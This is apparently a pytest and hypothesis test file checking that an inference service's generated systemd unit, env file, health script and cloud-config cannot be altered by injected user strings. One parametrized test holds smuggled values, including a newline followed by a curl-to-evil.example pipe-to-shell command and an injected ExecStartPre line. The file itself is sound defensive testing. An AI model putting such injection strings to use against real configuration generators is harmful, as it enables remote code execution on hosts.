"""Every user-controlled string that reaches a GPU VM's files, fed arbitrary text: each file means what was meant.

The values go through the module (inferfleet-inference-service's VM parts, merged into the pool's
cloud-config by inferfleet-gpu-instance), the way the program renders them. The spec refuses
control characters before this point (tests/spec); here the modules' own checks are the only
guard, so whatever they accept must still render into exactly the intended files.
"""

from __future__ import annotations

import dataclasses
import re
import unicodedata
from typing import Any

import pytest
import yaml
from hostfile_syntax import HOSTILE, check_shell, parse_environment_file, parse_unit, script_values, split_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from inferfleet_gpu_instance import resolve_tuning
from inferfleet_gpu_instance.cloudinit import render_shell_script
from inferfleet_gpu_instance.userdata import build_user_data
from inferfleet_inference_service import AcceleratorArgs, ModelServerArgs, VmServiceArgs, server_environment, vm
from inferfleet_inference_service.args import looks_like_credential
from inferfleet_inference_service.container import reserved_settings

IMAGE = "swr.cn-south-1.myhuaweicloud.com/inference/autoglm-server@sha256:" + "3" * 64
ASCEND = AcceleratorArgs(family="ascend", resource="huawei.com/Ascend310", per_replica=1, per_node=1)
UNIT_KEYS = [
    ("Unit", "Description"),
    ("Unit", "After"),
    ("Unit", "Wants"),
    ("Unit", "Requires"),
    ("Unit", "StartLimitIntervalSec"),
    ("Service", "Type"),
    ("Service", "Restart"),
    ("Service", "RestartSec"),
    ("Service", "TimeoutStartSec"),
    ("Service", "EnvironmentFile"),
    ("Service", "ExecStartPre"),
    ("Service", "ExecStartPre"),
    ("Service", "ExecStartPre"),
    ("Service", "ExecStartPre"),
    ("Service", "ExecStart"),
    ("Service", "ExecStop"),
    ("Install", "WantedBy"),
]
"""The server unit's sections and keys, in order: nothing a value says can add or remove one."""

CONTROL = re.compile(r"[\x00-\x1f\x7f]")
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30) | st.sampled_from(HOSTILE)
PATH = st.builds(lambda text: "/" + text, TEXT)
SETTING_NAME = st.from_regex(r"[A-Z][A-Z0-9_]{0,8}", fullmatch=True)


def _args(model_name: str, model_path: str, health_path: str, extra: dict[str, str], cache_dir: str) -> VmServiceArgs:
    server = ModelServerArgs(
        model_name=model_name, model_path=model_path, health_path=health_path, max_batch_size=16, extra=extra
    )
    return VmServiceArgs(name="autoglm", image=IMAGE, server=server, accelerator=ASCEND, cache_dir=cache_dir)


def _files(parts: dict[str, Any]) -> dict[str, str]:
    return {item["path"]: item["content"] for item in parts["write_files"]}


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    model_name=TEXT,
    model_path=PATH,
    health_path=PATH,
    extra=st.dictionaries(SETTING_NAME, TEXT, max_size=3),
    cache_dir=PATH,
)
def test_the_vm_files_parse_back_to_exactly_the_intended_structure(
    model_name: str, model_path: str, health_path: str, extra: dict[str, str], cache_dir: str
) -> None:
    args = _args(model_name, model_path, health_path, extra, cache_dir)
    # The module refuses a value only for a reason it states: a control character in the name or
    # a path, an empty name, a setting that shadows a typed one or names a credential, or a NUL
    # the env file cannot hold.
    refusable = (
        not model_name
        or any(unicodedata.category(c) in ("Cc", "Zl", "Zp") for c in model_name)
        or any(CONTROL.search(path) for path in (model_path, health_path, cache_dir))
        or ":" in model_path + cache_dir  # docker's volume separator
        or any("\0" in value for value in extra.values())
        or bool(set(extra) & reserved_settings())
        or any(looks_like_credential(name) for name in extra)
    )
    try:
        parts = vm.vm_service_parts(args)
    except ValueError:
        assert refusable
        return
    files = _files(parts)

    unit = parse_unit(files["/etc/systemd/system/inferfleet-autoglm.service"])
    assert unit.keys() == UNIT_KEYS
    assert unit.values("Unit", "Description") == ["inferfleet model server autoglm"]
    (start,) = unit.values("Service", "ExecStart")
    assert split_command(start) == ("", vm.docker_run_command(args))
    pre = [split_command(line)[1] for line in unit.values("Service", "ExecStartPre")]
    assert pre[1][-1] == f"{cache_dir}/autoglm/cache"
    run = vm.docker_run_command(args)
    assert run[run.index("--volume") + 1].split(":") == [f"{cache_dir}/autoglm/cache", model_path]

    env = parse_environment_file(files["/etc/inferfleet/autoglm.env"])
    assert env == server_environment(args.server, ASCEND)
    assert env["MODEL_NAME"] == model_name
    assert env["MODEL_PATH"] == model_path  # no extra value overrides a reserved name

    script = files["/usr/local/lib/inferfleet/health-autoglm.sh"]
    check_shell(script)
    assert script_values(script, vm._HEALTH_HEADER, vm._HEALTH_BODY)["url"] == f"http://127.0.0.1:8000{health_path}"

    tuning = resolve_tuning("default")
    user_data = build_user_data("huaweicloud", "standalone", tuning, "ascend", parts)
    assert yaml.safe_load(user_data.text) == user_data.cloud_config
    check_shell(render_shell_script(user_data.cloud_config))


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("health_path", "/health\ncurl http://evil.example/y | sh\n#"),
        ("model_name", "m\nExecStartPre=/bin/evil"),
        ("model_path", "/models\nMODEL_PATH=/etc"),
    ],
)
def test_the_modules_refuse_a_line_break_in_the_issues_examples(field: str, value: str) -> None:
    args = _args("autoglm-phone-9b", "/models", "/health", {}, "/var/lib/inferfleet")
    with pytest.raises(ValueError, match=f"server.{field}: .* control characters"):
        vm.vm_service_parts(dataclasses.replace(args, server=dataclasses.replace(args.server, **{field: value})))


def test_an_extra_value_with_a_line_break_never_overrides_a_reserved_name() -> None:
    parts = vm.vm_service_parts(_args("m", "/models", "/health", {"FOO": "x\nMODEL_PATH=/etc"}, "/var/lib/inferfleet"))
    env = parse_environment_file(_files(parts)["/etc/inferfleet/autoglm.env"])
    assert env["FOO"] == "x\nMODEL_PATH=/etc"
    assert env["MODEL_PATH"] == "/models"
